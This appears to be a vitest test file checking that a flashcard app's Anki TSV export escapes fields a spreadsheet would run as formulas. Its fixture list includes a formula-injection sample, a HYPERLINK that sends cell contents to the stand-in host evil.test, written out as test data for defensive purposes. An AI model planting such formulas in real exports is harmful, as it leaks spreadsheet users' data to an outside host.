import { describe, expect, it } from "vitest";
import { toAnkiTsv } from "../src/export/to-anki-tsv.ts";
import type { Bank } from "../src/schema/bank.ts";
import { fixtureBank } from "./export-fixture-bank.ts";
import { readAnkiTsv } from "./export-read-anki-tsv.ts";

/** Cards whose text a spreadsheet would run as a formula (an imported deck can hold any). */
const FORMULAS = ['=HYPERLINK("http://evil.test/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(1,1)"];

function bankWithFormulaCards(): Bank {
  const [template] = fixtureBank.flashcards;
  if (!template) throw new Error("the fixture bank has no flashcards");
  return {
    ...fixtureBank,
    flashcards: FORMULAS.map((text, index) => ({
      ...template,
      id: `c-formula-${index}`,
      front: text,
      back: text,
    })),
    sets: [],
  };
}

describe("exported files opened in a spreadsheet", () => {
  it("the Anki file starts no field with = + - or @, and Anki reads the same text back", () => {
    const file = toAnkiTsv(bankWithFormulaCards());
    const fields = file
      .trimEnd()
      .split("\n")
      .slice(5)
      .flatMap((line) => line.split("\t"))
      .map((field) => field.replace(/^"/, ""));
    expect(fields.filter((field) => /^[=+\-@]/.test(field))).toEqual([]);
    expect(readAnkiTsv(file).notes.map((note) => [note.front, note.back])).toEqual(
      FORMULAS.map((text) => [text, text]),
    );
  });
});
